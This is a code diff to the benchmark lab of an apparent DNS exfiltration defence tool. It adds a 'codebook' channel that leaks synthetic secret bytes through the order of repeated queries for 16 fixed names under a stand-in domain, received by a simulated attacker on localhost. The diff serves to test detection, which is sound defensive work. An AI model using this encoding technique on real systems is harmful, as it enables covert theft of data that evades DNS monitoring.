@@ -7,6 +7,9 @@
 //   npm run build && node bench/lab.mjs            (LAB_CLASSES=shape-hex,adaptive-base32 to pick classes)
 //   LAB_ATTACKER=silent|late  the attacker's nameserver never answers (it only wants the labels), or answers 1.5 s
 //                             late; LAB_PARALLEL=N keeps N queries in flight (default 1: one after another)
+//   LAB_CLASSES=codebook      the repeat channel: 16 fixed two-letter names under one domain, one per secret nibble,
+//                             asked again and again (the attacker answers with TTL 0, so every repeat reaches it);
+//                             its bytes are counted from the order of the queries that arrive, not from new labels
 // Owns its child processes and sockets; stops them on exit. Writes nothing but a temp dir it removes.
 import { spawn } from 'node:child_process';
 import dgram from 'node:dgram';
@@ -89,14 +92,35 @@ const DECODE = {
 /** The codec of a stream kind (`shape-base62-…`, `adaptive-hex-…`). */
 const codecOf = (kind) => /^(?:shape|adaptive)-(hex|base32|base36|base58|base62|base64url|words)-/.exec(kind)?.[1];
 
+// The repeat channel's codebook: a nibble per query, by which of 16 known names is asked (none carries data itself).
+const CODEBOOK = ['ab', 'cd', 'ef', 'gh', 'ij', 'kl', 'mn', 'op', 'qr', 'st', 'uv', 'wx', 'yz', 'ba', 'dc', 'fe'];
+/** A 512-byte secret as codebook queries under `domain`: two per byte, high nibble first. */
+function codebookStream(domain, seed) {
+  const lines = [];
+  let x = seed;
+  for (let i = 0; i < 512; i++) {
+    x = (x * 1103515245 + 12345) & 0x7fffffff;
+    const byte = x >>> 23;
+    for (const n of [byte >> 4, byte & 15]) lines.push({ kind: 'codebook-repeat', session: `codebook-${seed}`, session_type: 'interactive', qname: `${CODEBOOK[n]}.${domain}`, qtype: 1, data: true });
+  }
+  return lines;
+}
+
 // ---------- the attacker ----------
 function startAttacker() {
   const sock = dgram.createSocket('udp4');
   const seen = new Map(); // registrable → Set of data labels (retries and cache refreshes count once)
+  const arrivals = new Map(); // registrable → codebook nibbles in arrival order (every query counts: the order is the data)
   sock.on('message', (msg, rinfo) => {
     if (msg.length < 17) return;
     const { name, end } = readQuestion(msg);
     const labels = name.split('.');
+    const nibble = CODEBOOK.indexOf(labels[0]);
+    if (labels.length === 3 && nibble >= 0) {
+      const k = labels.slice(-2).join('.').toLowerCase();
+      if (!arrivals.has(k)) arrivals.set(k, []);
+      arrivals.get(k).push(nibble);
+    }
     const data = labels.slice(0, -2).filter((l) => l.length > 3 && !/^\d{1,5}$/.test(l)); // strip sequence counters (`0042`, the corpus's `00a`)
     const key = labels.slice(-2).join('.').toLowerCase();
     let s = seen.get(key);
@@ -115,7 +139,7 @@ function startAttacker() {
     if (ATTACKER === 'late') setTimeout(() => sock.send(reply, rinfo.port, rinfo.address), 1500);
     else sock.send(reply, rinfo.port, rinfo.address);
   });
-  return new Promise((ok) => sock.bind(0, '127.0.0.1', () => ok({ port: sock.address().port, seen, close: () => sock.close() })));
+  return new Promise((ok) => sock.bind(0, '127.0.0.1', () => ok({ port: sock.address().port, seen, arrivals, close: () => sock.close() })));
 }
 
 /** Secret bytes the attacker can decode from the labels it received under `domains`. */
@@ -163,6 +187,7 @@ async function main() {
     byKind.get(l.session).push(l);
   }
   const streams = [...byKind.values()].slice(0, 200);
+  if (want.includes('codebook')) streams.push(codebookStream('cbook.test', 7));
   const attacker = await startAttacker();
   const dir = mkdtempSync(join(tmpdir(), 'dnswarden-lab-'));
   const dnsPort = await freePort();
@@ -220,10 +245,15 @@ async function main() {
       }
       client.close();
       const domains = [...new Set(lines.filter((l) => l.data === true).map((l) => l.qname.split('.').slice(-2).join('.').toLowerCase()))];
-      const bytes = decodedBytes(attacker, domains, codecOf(kind));
+      // A codebook's bytes: the nibbles that arrived, in order, past the 16 first sightings (those are new labels,
+      // counted by the budgets like any); a label stream's: what its labels decode to.
+      const bytes = kind === 'codebook-repeat' ? Math.floor(Math.max(0, (attacker.arrivals.get(domains[0])?.length ?? 0) - CODEBOOK.length) / 2) : decodedBytes(attacker, domains, codecOf(kind));
       console.log(kind.padEnd(40), lines[0].session_type.padEnd(11), `${sent} / ${answered}`.padEnd(24), String(bytes).padStart(30), quarantined ? ' yes' : ' NO');
       // the attacker's domains are shared by streams: forget them before the next one
-      for (const d of domains) attacker.seen.delete(d);
+      for (const d of domains) {
+        attacker.seen.delete(d);
+        attacker.arrivals.delete(d);
+      }
     }
   } finally {
     stop();
